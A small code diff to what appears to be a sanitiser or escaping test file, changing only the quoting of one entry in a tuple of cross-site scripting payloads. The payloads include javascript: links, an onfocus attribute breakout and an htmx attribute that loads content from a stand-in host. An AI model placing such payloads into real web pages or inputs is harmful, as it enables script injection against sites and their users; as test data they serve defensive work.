@@ -38,7 +38,7 @@ PAYLOADS = (
     "<math data-payload><mi xlink:href='javascript:alert(1)'>",
     "{who}{what}{0.__class__}%(x)s%s",
     "'\" data-payload autofocus onfocus=alert(1) x='",
-    "\" hx-get=//ond.example hx-trigger=load data-payload x=\"",
+    '" hx-get=//ond.example hx-trigger=load data-payload x="',
 )
 WHOLE = " ".join(PAYLOADS)
 SHORT = 190
